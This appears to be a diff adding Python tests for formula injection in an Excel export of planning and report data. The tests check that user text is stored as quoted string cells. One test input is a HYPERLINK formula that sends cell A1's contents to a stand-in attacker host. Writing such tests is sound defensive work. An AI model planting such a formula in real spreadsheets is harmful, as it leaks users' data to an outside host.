@@ -82,3 +82,37 @@ class TestReportWorkbook:
         assert ws.page_setup.orientation == "landscape"
         assert wb.properties.identifier == "12/BC-UBND"
         assert {p.name: p.value for p in wb.custom_doc_props.props}["DocumentNumber"] == "12/BC-UBND"
+
+
+class TestFormulaInjection:
+    """User text in a plan or an annex is a string cell, never a live formula (issue 12)."""
+
+    HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
+
+    def test_plan_title_and_target_text_stay_text(self, plan):
+        plan.title = self.HOSTILE
+        plan.save()
+        target = plan.targets.order_by("milestone_year", "order", "pk").first()
+        target.description = "=1+2"
+        target.unit = "+HTX"
+        target.save()
+        budget = plan.budget_lines.first()
+        budget.description = "@SUM(A1)"
+        budget.save()
+        wb = _wb(excel.plan_workbook(render.plan_snapshot(plan)))
+        cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+        formulas = [c.coordinate for c in cells if c.data_type == "f"]
+        assert formulas == ["C10"]  # the portal's own budget total, nothing else
+        texts = {c.value: c for c in cells if c.data_type == "s"}
+        for value in (self.HOSTILE, "=1+2", "+HTX", "@SUM(A1)"):
+            assert value in texts, value
+            assert texts[value].quotePrefix
+
+    def test_annex_text_stays_text(self, report):
+        snap = render.obligation_snapshot(report)
+        snap["annex"]["rows"][0]["description"] = "=1+2"
+        snap["annex"]["rows"][0]["achieved_raw"] = "=3+4"
+        ws = _wb(excel.report_workbook(snap))["Phụ lục"]
+        assert ws["B9"].value == "=1+2" and ws["B9"].data_type == "s"
+        assert ws["F9"].value == "=3+4" and ws["F9"].data_type == "s"
+        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
